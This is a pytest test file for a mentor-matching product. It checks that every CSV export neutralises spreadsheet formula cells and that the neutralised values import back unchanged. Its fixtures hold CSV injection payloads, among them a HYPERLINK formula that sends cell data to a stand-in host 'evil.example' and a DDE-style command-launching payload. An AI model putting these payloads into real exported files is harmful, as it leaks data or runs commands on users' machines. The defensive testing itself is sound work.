"""Review finding 5: one CSV writer, which neutralises formula cells, for every CSV the product writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select

from matcher import csvfile
from matcher.catalogue.mentors_import import export_mentors, import_mentors
from matcher.catalogue.models import Mentor
from matcher.pathways import report

DATA = Path(__file__).resolve().parent.parent / "data"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+x", "-2+3",
           "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_prefixed_and_read_back_unchanged(text):
    cell = csvfile.safe_cell(text)
    assert cell == "'" + text and csvfile.unquote_cell(cell) == text


@pytest.mark.parametrize("value", [-3, "-3", "0.25", "+45", 12, "", None, "Fodbold", "a=b", "'quoted"])
def test_plain_values_stay_as_they_are(value):
    expected = "" if value is None else str(value)
    assert csvfile.safe_cell(value) == expected and csvfile.unquote_cell(expected) == expected


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_mentor_export_neutralises_formulas_and_round_trips(db):
    import_mentors(db, (DATA / "mentors-example.csv").read_text())
    mentor = db.scalars(select(Mentor).order_by(Mentor.id)).first()
    mentor.name = HOSTILE[0]
    mentor.interests = ["@SUM(1)", "fodbold"]
    db.flush()
    exported = export_mentors(db)
    cells = _cells(exported)
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:].isdigit())]
    assert "'" + HOSTILE[0] in cells
    # Importing the export changes nothing: the apostrophes come off again.
    summary = import_mentors(db, exported)
    db.flush()
    db.refresh(mentor)
    assert mentor.name == HOSTILE[0] and mentor.interests == ["@SUM(1)", "fodbold"]
    assert summary.updated == 0 and summary.unchanged == 2


def test_the_indicator_csv_uses_the_same_writer(monkeypatch):
    rows = [{"area": "=cmd()", "measure": "m", "label": "@x", "period": "2026", "value": -1,
             "baseline_period": "", "baseline_value": None}]
    monkeypatch.setattr(report, "export_rows", lambda result: rows)
    cells = _cells(report.to_csv({}))
    assert cells[7:] == ["'=cmd()", "m", "'@x", "2026", "-1", "", ""]


def test_the_audit_log_export_uses_the_same_writer(login, app, db):
    from matcher.privacy.audit import record

    record(db, None, "login_failed", "user", purpose="=HYPERLINK(\"http://evil.example\")", ip="@evil")
    db.commit()
    text = login("admin").get("/admin/revisionslog.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in text and ",'@evil" in text
